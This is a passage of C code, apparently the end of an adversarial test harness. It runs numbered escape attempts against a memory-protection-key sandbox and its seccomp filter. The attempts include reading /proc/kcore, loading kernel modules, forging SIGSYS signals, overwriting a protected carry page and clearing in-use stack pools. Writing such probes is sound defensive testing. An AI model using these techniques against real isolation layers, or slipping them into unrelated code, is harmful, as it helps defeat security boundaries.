		return user_dispatch(target);
	case 33:
		return module_helper(target);
	case 34:
		return uprobe(target, secret);
	case 35: /* physical memory, app's pages in it (root) */
		r = open("/proc/kcore", O_RDONLY);
		break;
	case 36: { /* kernel code of its own (root): here not a module, which the loader refuses */
		static const char image[64] = "not an ELF module";
		r = syscall(SYS_init_module, image, sizeof(image), "");
		break;
	}
	case 37:
		return rseq_hijack(target, secret, 0);
	case 38:
		return rseq_hijack(target, secret, 1);
	case 39:
		return shm_exec(target, secret);
	case 40: /* linear address masking: tagged addresses the kernel untags (LAM, 6.4 and later)
		  */
		r = syscall(SYS_arch_prctl, 0x4002 /* ARCH_ENABLE_TAGGED_ADDR */, 6);
		break;
	case 41:
		return userfaultfd_dev(target, len);
	case 42: /* environ's range set on app's heap: prctl's option with high bits */
		return read_through_environ(target, secret, 1UL << 32);
	case 43: {
		unsigned long fs = 0;
		r = syscall(SYS_arch_prctl, ARCH_GET_FS, &fs);
		if (r == 0)
			r = syscall(SYS_arch_prctl, (1UL << 32) | ARCH_SET_FS, fs);
		break;
	}
	case 44:
		return helper_fd_flood();
	case 45:
		return tid_address(target);
	case 46:
		return frame_sigframe(target);
	case 47:
		return raw_sigaction(secret);
	case 48:
		return stub_noscrub(secret, 0);
	case 49:
		return stub_noscrub(secret, 1);
	case 50:
		return table_tail_frame(target);
	case 51:
		return misaligned_action();
	case 52:
		return copy_area_read(secret);
	case 53:
		return clone_cleartid(target);
	case 54:
		return robust_list(target);
	case 55:
		return run_program();
	case 57:
		return helper_empty();
	case 63:
		return sigreturn_altstack(target);
	case 64:
		return copy_key_read(secret, 0);
	case 66:
		return copy_key_read(secret, 1);
	case 65:
		return clone_cleartid_jump(target);
	case 69:
		return setxid();
	case 72:
		return helper_forge();
	case 74:
		return sigsys_mask();
	case 75:
		return sigsys_smash();
	case 76:
		return report_forge(1, target);
	case 77:
		return report_forge(0, target);
	case 78:
		return report_lock_signal(target);
	case 79:
		return report_fpregs_adjacent();
	case 80:
		return report_unwind_handler(target);
	case 73: { /* the options the list allows, and one it does not know */
		unsigned long fs = 0;
		r = syscall(SYS_arch_prctl, ARCH_GET_FS, &fs);
		fprintf(stderr, "arch-option: ARCH_GET_FS: %s\n", r ? strerror(errno) : "answered");
		r = syscall(SYS_arch_prctl, 0x5001 /* ARCH_SHSTK_ENABLE (Linux 6.6) */, 1UL);
		break;
	}
	case 70: { /* a SIGSYS that looks like the filter's, for the handler to act on */
		siginfo_t si;
		memset(&si, 0, sizeof(si));
		si.si_signo = SIGSYS;
		si.si_code = 1; /* SYS_SECCOMP */
		r = syscall(SYS_rt_sigqueueinfo, getpid(), SIGSYS, &si);
		break;
	}
	case 71: { /* a SIGSYS from a timer: the handler used to return, resuming a key-0 frame */
		struct sigevent ev;
		timer_t tm;
		struct itimerspec when = {.it_value = {.tv_nsec = 1000000}};
		memset(&ev, 0, sizeof(ev));
		ev.sigev_notify = SIGEV_SIGNAL;
		ev.sigev_signo = SIGSYS;
		if (timer_create(CLOCK_MONOTONIC, &ev, &tm) || timer_settime(tm, 0, &when, NULL))
			return 0;
		usleep(100000);
		fprintf(stderr, "sigsys-timer: the handler returned: the image goes on\n");
		return 1;
	}
	case 68: { /* the carry page of the first gate page: the main thread's, app's calls */
		volatile uint64_t *carry = (volatile uint64_t *)flexos__mpk_ro.ro.carry_lo;
		fprintf(stderr, "carry-page: evil writes the carry page at %p\n", (void *)carry);
		carry[0] = 0x29a;
		return 1;
	}
	case 67: /* AMX's tile data (18): 8 KiB more in each signal frame */
		r = syscall(SYS_arch_prctl, 0x1023 /* ARCH_REQ_XCOMP_PERM */, 18);
		/* Refused by anything but the filter (no AMX, as here), it is not the filter's. */
		if (r == -1 && errno != EPERM)
			return 1;
		break;
	case 29: /* every stack of every pool free: the next thread gets one in use */
		for (uint64_t c = 0; c < 16; c++) {
			size_t n = 0;
			uint64_t *h = flexos__mpk_pool_holders
					  ? (uint64_t *)flexos__mpk_pool_holders(c, &n)
					  : NULL;
			for (size_t i = 0; h && i < n; i++)
				__atomic_store_n(&h[i], 0, __ATOMIC_RELAXED);
		}
		return 0;
	}
	return r == -1 ? 0 : 1;
}
